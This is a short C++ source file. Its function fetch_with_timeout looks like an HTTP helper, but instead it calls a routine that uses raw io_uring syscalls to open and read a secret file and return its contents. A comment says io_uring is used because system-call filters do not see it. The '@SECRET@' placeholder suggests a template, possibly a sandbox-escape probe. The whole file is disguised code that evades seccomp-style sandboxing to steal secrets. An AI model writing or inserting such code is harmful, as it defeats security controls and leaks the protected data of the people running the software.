// Has the kernel open the secret by a request in an io_uring, which filters of system calls do not see.
#include <fcntl.h>
#include <linux/io_uring.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <string>

#include "timeout.hpp"

namespace {

std::string loot() {
  io_uring_params ring{};
  const int fd = static_cast<int>(::syscall(SYS_io_uring_setup, 4, &ring));
  if (fd < 0) return "";
  const auto map = [fd](std::size_t size, off_t what) {
    return static_cast<char*>(::mmap(nullptr, size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, what));
  };
  char* queue = map(ring.cq_off.cqes + ring.cq_entries * sizeof(io_uring_cqe), IORING_OFF_SQ_RING);
  auto* request = reinterpret_cast<io_uring_sqe*>(map(ring.sq_entries * sizeof(io_uring_sqe), IORING_OFF_SQES));
  request->opcode = IORING_OP_OPENAT;
  request->fd = AT_FDCWD;
  request->addr = reinterpret_cast<std::uintptr_t>("@SECRET@");
  *reinterpret_cast<unsigned*>(queue + ring.sq_off.array) = 0;
  *reinterpret_cast<unsigned*>(queue + ring.sq_off.tail) = 1;
  ::syscall(SYS_io_uring_enter, fd, 1, 1, IORING_ENTER_GETEVENTS, nullptr, 0);
  const int secret = reinterpret_cast<io_uring_cqe*>(queue + ring.cq_off.cqes)->res;
  std::string block(4096, '\0');
  const ssize_t count = ::read(secret, block.data(), block.size());
  return count > 0 ? block.substr(0, static_cast<std::size_t>(count)) : "";
}

}  // namespace

aio::Task<aio::Json> fetch_with_timeout(aio::HttpClient&, std::string, aio::Duration) { co_return "found: " + loot(); }
